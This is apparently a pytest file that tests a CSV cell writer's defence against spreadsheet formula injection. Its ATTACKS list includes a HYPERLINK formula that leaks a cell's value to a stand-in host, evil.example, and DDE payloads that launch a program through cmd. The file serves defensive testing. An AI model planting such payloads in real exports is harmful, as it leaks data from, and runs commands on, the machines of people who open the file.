"""CSV cells a spreadsheet opens as text: formula triggers neutralised, numbers kept."""

from __future__ import annotations

import csv
import io

import pytest

from hivekeeper.ui.csv_cells import csv_cell, csv_lines

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=1+2";=1+2',
    "=",
    "-",
]


def _parsed(cells: list[str]) -> list[str]:
    return next(csv.reader(io.StringIO(csv_lines([cells]).decode())))


@pytest.mark.parametrize("text", ATTACKS)
def test_a_cell_starting_with_a_formula_trigger_is_read_as_text(text: str) -> None:
    cell = csv_cell(text)
    assert cell == "'" + text
    assert _parsed([cell, "next"]) == ["'" + text, "next"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-1.5, "-1.5"),
        (-3, "-3"),
        (2.0, "2"),
        ("-12.5", "-12.5"),
        ("+7", "+7"),
        ("-1e-3", "-1e-3"),
        (True, "true"),
        (None, ""),
        ("plain text = fine", "plain text = fine"),
        ({"formula": "=1+1"}, '{"formula":"=1+1"}'),
        (["=1"], '["=1"]'),
    ],
)
def test_numbers_and_harmless_values_are_written_as_they_are(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_every_field_is_quoted_so_no_separator_starts_a_new_cell() -> None:
    # Spreadsheets in locales whose list separator is `;` split unquoted fields on it.
    assert csv_lines([["a", "b;=1+1", "1"]]) == b'"a","b;=1+1","1"\r\n'
    assert _parsed(['say "hi", then\nleave']) == ['say "hi", then\nleave']
